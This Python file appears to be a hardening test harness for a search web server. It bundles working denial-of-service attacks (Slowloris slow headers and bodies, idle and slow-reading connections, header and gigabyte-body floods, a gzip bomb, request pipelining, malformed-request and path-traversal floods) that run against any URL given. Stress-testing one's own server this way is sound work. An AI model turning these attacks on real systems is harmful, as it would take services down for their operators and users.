# SPDX-License-Identifier: GPL-3.0-or-later
"""Clients that mean harm, as a program of its own, so that they slow down nothing but what they attack.

usage: attacks.py NAME URL SECONDS SOURCE...     from the addresses SOURCE of this machine
Prints a line of JSON in the end: connections, requests, bytes sent, answers by status ("none": closed without one).
"""

import asyncio
import collections
import contextlib
import gzip
import json
import resource
import sys
import time
import urllib.parse

import hostile

MANY = 500  # connections at once
GIGABYTE = 1 << 30
BLOCK = b"x" * 65536


class Attack:
    """What the attackers share: the target, when to stop, what they counted."""

    def __init__(self, url, seconds, sources):
        parts = urllib.parse.urlsplit(url)
        self.host, self.port = parts.hostname, parts.port
        self.end = time.monotonic() + seconds
        self.sources = sources
        self.connections = self.requests = self.bytes = self.largest_body = 0
        self.answers = collections.Counter()

    def left(self):
        return self.end - time.monotonic()

    @contextlib.asynccontextmanager
    async def connection(self):
        """A reader and a writer; errors of the connection end the block."""
        source = self.sources[self.connections % len(self.sources)]
        self.connections += 1
        writer = None
        try:
            async with asyncio.timeout(max(self.left(), 0.1) + 5):
                reader, writer = await asyncio.open_connection(self.host, self.port, local_addr=(source, 0))
                yield reader, writer
        except (OSError, TimeoutError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            await asyncio.sleep(0.01)  # refused: nobody attacks in an idle loop
        finally:
            if writer is not None:
                writer.transport.abort()

    async def send(self, writer, data):
        writer.write(data)
        self.bytes += len(data)
        await writer.drain()

    async def read_status(self, reader):
        """Counts the next answer, reads it as far as it has come."""
        line = await reader.readline()
        status = line[9:12].decode("latin1") if line.startswith(b"HTTP/1.") else "none"
        self.answers[status] += 1
        return status

    def head(self, method="GET", target="/", *lines):
        return "\r\n".join([f"{method} {target} HTTP/1.1", f"Host: {self.host}:{self.port}", *lines]).encode("latin1")

    async def ask(self, data):
        """Sends a request on a connection of its own and reads the answer to its end."""
        async with self.connection() as (reader, writer):
            self.requests += 1
            await self.send(writer, data)
            await self.read_status(reader)
            while await reader.read(65536):
                pass

    async def repeat(self, act, times):
        """`times` attackers that each act again and again."""
        async def one():
            while self.left() > 0:
                await act()
        await asyncio.gather(*[one() for _ in range(times)])


# ---------------------------------------------------------------- connections that cost nothing to keep

async def slow_heads(attack):
    """A byte of a header a second, on 500 connections."""
    async def act():
        async with attack.connection() as (reader, writer):
            await attack.send(writer, attack.head() + b"\r\nX-Slow: ")
            while attack.left() > 0 and not reader.at_eof():
                await attack.send(writer, b"a")
                with contextlib.suppress(TimeoutError):
                    async with asyncio.timeout(1):
                        await attack.read_status(reader)
                        return
    await attack.repeat(act, MANY)


async def slow_bodies(attack):
    """A byte of a body a second, on 500 connections."""
    async def act():
        async with attack.connection() as (reader, writer):
            await attack.send(writer, attack.head("POST", "/multi-search", "Content-Length: 60000") + b"\r\n\r\n{")
            while attack.left() > 0 and not reader.at_eof():
                await attack.send(writer, b" ")
                with contextlib.suppress(TimeoutError):
                    async with asyncio.timeout(1):
                        await attack.read_status(reader)
                        return
    await attack.repeat(act, MANY)


async def idle(attack):
    """500 connections that say nothing."""
    async def act():
        async with attack.connection() as (reader, _):
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(max(attack.left(), 0.1)):
                    await reader.read(1)
    await attack.repeat(act, MANY)


async def slow_readers(attack):
    """Ask for large answers on 200 connections and don't read them."""
    request = attack.head("GET", "/api/search?q=&limit=100") + b"\r\n\r\n"

    async def act():
        async with attack.connection() as (reader, writer):
            reader._transport.pause_reading()
            attack.requests += 20
            await attack.send(writer, request * 20)
            await asyncio.sleep(max(min(attack.left(), 5), 0.1))
    await attack.repeat(act, 200)


async def comings_and_goings(attack):
    """Connect and leave at once, 50 at a time; half of them with half a request."""
    async def act():
        async with attack.connection() as (_, writer):
            if attack.connections % 2:
                await attack.send(writer, b"GET / HT")
    await attack.repeat(act, 50)


# ---------------------------------------------------------------- what is too large

async def many_headers(attack):
    """100,000 headers."""
    data = attack.head() + b"\r\n" + b"".join(b"X-%d: a\r\n" % i for i in range(100_000)) + b"\r\n"
    await attack.repeat(lambda: attack.ask(data), 8)


async def _stream(attack, head, block):
    async with attack.connection() as (reader, writer):
        attack.requests += 1
        await attack.send(writer, head)
        sent = 0
        status = asyncio.ensure_future(attack.read_status(reader))
        try:
            while sent < GIGABYTE and attack.left() > 0 and not status.done():
                await attack.send(writer, block)
                sent += len(BLOCK)
                await asyncio.sleep(0)
            async with asyncio.timeout(2):
                await status
        finally:
            status.cancel()
            attack.largest_body = max(attack.largest_body, sent)


async def long_bodies(attack):
    """A body of a gigabyte, sent until somebody says stop."""
    head = attack.head("POST", "/multi-search", "Content-Type: application/json", f"Content-Length: {GIGABYTE}") + b"\r\n\r\n"
    await attack.repeat(lambda: _stream(attack, head, BLOCK), 4)


async def long_chunked_bodies(attack):
    """The same in chunks."""
    head = attack.head("POST", "/multi-search", "Content-Type: application/json", "Transfer-Encoding: chunked") + b"\r\n\r\n"
    await attack.repeat(lambda: _stream(attack, head, b"10000\r\n" + BLOCK + b"\r\n"), 4)


async def gzip_bombs(attack):
    """50 MB in a compressed body of 50 kB."""
    body = gzip.compress(b" " * 50_000_000)
    head = attack.head("POST", "/multi-search", "Content-Type: application/json", "Content-Encoding: gzip", f"Content-Length: {len(body)}")
    await attack.repeat(lambda: attack.ask(head + b"\r\nConnection: close\r\n\r\n" + body), 8)


async def pipelines(attack):
    """A thousand requests at once on a connection."""
    request = attack.head("GET", "/api/suggest?q=k") + b"\r\n\r\n"

    async def act():
        async with attack.connection() as (reader, writer):
            attack.requests += 1000
            writer.write(request * 1000)
            attack.bytes += len(request) * 1000
            await attack.read_status(reader)
            async with asyncio.timeout(max(attack.left(), 0.1)):
                while await reader.read(65536):
                    pass
    await attack.repeat(act, 8)


# ---------------------------------------------------------------- requests that cost much, or mean two things

async def _flood(attack, requests, times):
    position = 0

    async def act():
        nonlocal position
        position += 1
        await attack.ask(requests[position % len(requests)])
    await attack.repeat(act, times)


async def costly_queries(attack):
    """Everything that makes a search work hard, from 16 connections without a pause."""
    requests = [attack.head("GET", target, "Connection: close") + b"\r\n\r\n" for target in hostile.QUERY_TARGETS.values()]
    for target, body in hostile.QUERY_BODIES.values():
        requests.append(attack.head("POST", target, "Connection: close", "Content-Type: application/json", f"Content-Length: {len(body)}") +
                        b"\r\n\r\n" + body)
    await _flood(attack, requests, 16)


async def broken_requests(attack):
    """Everything that is no HTTP or might be read in two ways."""
    await _flood(attack, [shape.data for shape in hostile.SHAPES], 32)


async def odd_paths(attack):
    """Paths that try to leave the site."""
    await _flood(attack, [attack.head("GET", path, "Connection: close") + b"\r\n\r\n" for path in hostile.PATHS], 16)


ATTACKS = {act.__name__: act for act in [
    slow_heads, slow_bodies, idle, slow_readers, comings_and_goings, many_headers, long_bodies, long_chunked_bodies, gzip_bombs, pipelines,
    costly_queries, broken_requests, odd_paths]}


def main(name, url, seconds, *sources):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096) if hard > 0 else 4096, hard))
    attack = Attack(url, float(seconds), sources or ("127.0.0.1",))

    async def run():
        async with asyncio.timeout(float(seconds) + 8):
            await ATTACKS[name](attack)
    try:
        asyncio.run(run())
    except TimeoutError:
        pass
    print(json.dumps({"connections": attack.connections, "requests": attack.requests, "bytes": attack.bytes,
                      "largest_body": attack.largest_body, "answers": attack.answers}))


if __name__ == "__main__":
    main(*sys.argv[1:])
